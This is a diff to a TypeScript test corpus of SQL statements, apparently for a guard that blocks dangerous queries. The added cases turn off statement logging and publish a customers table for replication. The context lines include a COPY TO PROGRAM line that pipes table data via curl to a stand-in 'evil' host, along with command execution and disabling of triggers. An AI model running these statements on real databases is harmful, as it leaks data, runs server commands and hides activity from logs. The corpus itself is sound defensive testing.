@@ -159,6 +159,10 @@ export const SQL_BYPASS_CORPUS: BypassCase[] = [
 	b("rw-user-mapping", "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (password 'x')", "user mapping", "read-write"),
 	b("rw-default-privileges", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", "default privileges", "read-write"),
 	b("rw-session-replication-role", "SET session_replication_role = replica", "disables triggers and FK checks", "read-write"),
+	b("rw-log-statement", "SET log_statement = 'none'", "hiding statements from the server log", "read-write"),
+	b("rw-log-min-duration", "SET LOCAL log_min_duration_statement = -1", "hiding slow statements from the server log", "read-write"),
+	b("rw-set-config-log", "SELECT set_config('log_statement', 'none', true)", "log settings through set_config", "read-write"),
+	b("rw-publication", "CREATE PUBLICATION p FOR TABLE customers", "publishing table data to other servers", "read-write"),
 	// --- server files, programs, network ----------------------------------------------------------
 	b("rw-copy-program", "COPY orders TO PROGRAM 'curl -d @- http://evil'", "COPY TO PROGRAM", "read-write"),
 	b("rw-copy-from-program", "COPY orders FROM PROGRAM 'id'", "COPY FROM PROGRAM", "read-write"),
